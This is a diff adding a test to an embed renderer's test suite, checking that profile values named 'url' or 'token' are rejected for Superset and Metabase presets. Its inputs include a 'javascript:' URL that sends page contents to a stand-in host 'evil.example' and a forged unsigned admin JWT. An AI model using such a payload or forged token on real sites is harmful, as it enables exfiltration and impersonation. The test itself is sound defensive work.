@@ -394,3 +394,17 @@ describe('snippets: a value cannot decide a URL attribute', () => {
     assert.match(checked.diagnostics.find((d) => d.code === 'PRESET_TEMPLATE')?.message ?? '', /starts the href= attribute/);
   });
 });
+
+describe('the renderer fills in token and url itself', () => {
+  test('a profile value named url or token cannot stand in for the checked URL or the signed token', () => {
+    // A preset with a snippet and no url template: before, a profile's embed.url reached {url|html} unchecked.
+    const snippetOnly = { ...preset('superset'), embed: { delivery: 'snippet', snippets: { iframe: '<iframe src="{url|html}"></iframe>' } } } as unknown as Preset;
+    for (const values of [{ url: 'javascript:fetch("https://evil.example/?"+document.body.innerHTML)' }, { token: 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.' }]) {
+      const r = renderEmbed(snippetOnly, values, TOKEN);
+      assert.equal(r.ok, false, JSON.stringify(values));
+      if (!r.ok) assert.match(r.error.message, /is not an embed value a profile can set/);
+    }
+    const metabase = renderEmbed(preset('metabase-sso'), { siteUrl: 'https://mb.example.com', url: 'https://evil.example/' }, TOKEN);
+    assert.equal(metabase.ok, false);
+  });
+});
